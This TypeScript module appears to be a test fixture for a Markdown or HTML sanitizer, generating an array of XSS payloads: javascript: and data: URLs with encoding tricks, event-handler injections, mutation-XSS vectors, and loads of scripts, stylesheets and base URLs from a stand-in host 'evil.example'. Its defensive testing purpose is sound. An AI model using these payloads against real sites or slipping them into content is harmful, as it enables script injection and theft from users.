const RUN = '__ran(1)'
const ADDRESSES = [
  ...[`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, ` javascript:${RUN}`, `javascript&colon;${RUN}`],
  ...[`&#106;avascript:${RUN}`, `&#x6A&#x61vascript:${RUN}`, `%6aavascript:${RUN}`, `javascript%3A${RUN}`, `\\javascript:${RUN}`],
  ...[`vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`],
  ...[
    `data:image/svg+xml,<svg onload=${RUN}>`,
    'file:///etc/passwd',
    '//evil.example/x',
    'blob:https://evil.example/1',
    `view-source:javascript:${RUN}`,
  ],
  ...[
    `https://a.example/"onmouseover="${RUN}`,
    `https://a.example/'onmouseover='${RUN}`,
    `x" onerror="${RUN}`,
    `\u0001javascript:${RUN}`,
  ],
]
const IN_MARKDOWN: ((address: string) => string)[] = [
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `![x](${a})`,
  (a) => `[x][r]\n\n[r]: ${a}`,
  (a) => `[x][r]\n\n[r]: <${a}> "t"`,
  (a) => `<${a}>`,
  (a) => a,
  (a) => `[![x](${a})](${a})`,
  (a) => `| a |\n|---|\n| [x](${a}) |`,
  (a) => `- [ ] [x](${a})`,
  (a) => `<a href="${a}">x</a>`,
]
const ELEMENTS = [
  ...[
    `<script>${RUN}</script>`,
    `<script src=//evil.example/x.js></script>`,
    `<scr<script>ipt>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
  ],
  ...[
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x>`,
    `<svg><a xlink:href="javascript:${RUN}"><text>x`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.${RUN}</script>">`,
    `<iframe src="javascript:${RUN}">`,
    `<object data="javascript:${RUN}">`,
    '<embed src=//evil.example/x>',
  ],
  ...[
    `<base href="https://evil.example/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    '<link rel=stylesheet href=//evil.example/x.css>',
  ],
  ...[
    '<style>*{background:url(//evil.example/x)}</style>',
    `<form action="javascript:${RUN}"><button>x`,
    `<button formaction="javascript:${RUN}">x`,
  ],
  ...[
    `<input autofocus onfocus=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
  ],
  ...[
    `<body onload=${RUN}>`,
    `<marquee onstart=${RUN}>`,
    `<div style="background:url(//evil.example/x)">x`,
    `<table background="//evil.example/x"><td>x`,
  ],
  ...[
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  ...[
    `<xmp><script>${RUN}</script></xmp>`,
    `<textarea><img src=x onerror=${RUN}>`,
    `<title><img src=x onerror=${RUN}>`,
    `<template><img src=x onerror=${RUN}></template>`,
  ],
  ...[
    `<plaintext><img src=x onerror=${RUN}>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`,
    `<?xml ?><img src=x onerror=${RUN}>`,
  ],
  ...[
    `<a href=https://a.example onclick=${RUN} onmouseover=${RUN}>x</a>`,
    `<p/onmouseover=${RUN}>x`,
    `<img src="x\` onerror=${RUN}">`,
    `<picture><source srcset=//evil.example/x><img></picture>`,
  ],
]
const AROUND: ((element: string) => string)[] = [
  (e) => e,
  (e) => `text ${e} text`,
  (e) => `> ${e}`,
  (e) => `# ${e}`,
  (e) => `| a |\n|---|\n| ${e} |`,
  (e) => `\`\`\`"${e}\n${e}\n\`\`\``,
  (e) => `[${e}](https://a.example '${e}')`,
  (e) => `![${e}](https://a.example/x.png "${e}")`,
]

/** Replies that try to run `__ran` or to load something in a page that shows them as HTML. */
export const hostileMarkdown: string[] = [
  ...ADDRESSES.flatMap((address) => IN_MARKDOWN.map((put) => put(address))),
  ...ELEMENTS.flatMap((element) => AROUND.map((put) => put(element))),
]
